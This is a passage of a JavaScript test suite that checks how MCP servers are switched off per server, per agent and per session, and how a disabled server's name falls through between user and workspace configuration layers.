    switches.set({ server: key, session: 'x/1' }, false)
    assert.deepEqual(await passed('x', 'x/1'), ['Turned off for this session.', 'b'])
    assert.deepEqual(await passed('x', 'x/2'), ['a', 'b'])
    switches.set({ agentId: 'x' }, false)
    assert.deepEqual(await passed('x'), ['Turned off for this agent.', 'Turned off for this agent.'])
    assert.deepEqual(await passed('y'), ['a', 'b'])
    switches.set({ server: key }, false)
    assert.deepEqual(await passed('y'), ['Turned off in MCP Servers.', 'b'])
    switches.set({ server: key }, true)
    switches.set({ agentId: 'x' }, true)
    switches.set({ server: key, session: 'x/1' }, true)
    assert.deepEqual(await passed('x', 'x/1'), ['a', 'b'])
    assert.equal(changes, 6)
  })

  it('stay switched off, whatever is switched off in sessions later', () => {
    switches.set({ server: 'a' }, false, true)
    switches.set({ agentId: 'x' }, false)
    for (let at = 0; at < 600; at++) switches.set({ server: 'b', session: `s${at}` }, false)
    assert.equal(switches.isOff('a'), 'everywhere')
    assert.equal(switches.isOff('a', { agentId: 'x' }), 'everywhere')
    assert.ok(switches.isAgentOff('x'))
    assert.ok(switches.isOffIn('s599', 'b'))
    assert.ok(!switches.isOffIn('s0', 'b'))
    for (let at = 0; at < 600; at++) switches.set({ server: `c${at}` }, false, true)
    assert.equal(switches.isOff('a'), 'everywhere')
    assert.equal(switches.isOff('c0'), 'everywhere')
  })

  it('leave their name to the next place when they are switched off, but not when they are invalid', async () => {
    layers = [
      { scope: 'user', value: { a: { command: 'server', args: ['mine'] } } },
      { scope: 'workspace', value: { a: { command: 'server', args: ['theirs'] } } },
    ]
    const { servers } = open()
    const key = (await servers.plan()).planned[0]!.key
    switches.set({ server: key }, false, true)
    const { passed } = await servers.select(everything, session)
    assert.ok(passed[0]?.type === 'stdio')
    assert.deepEqual(passed[0].args, ['mine'])
    switches.set({ server: key }, true, true)
    layers[1]!.value = { servers: { a: {} } }
    assert.deepEqual((await select()).passed, [])
  })
})
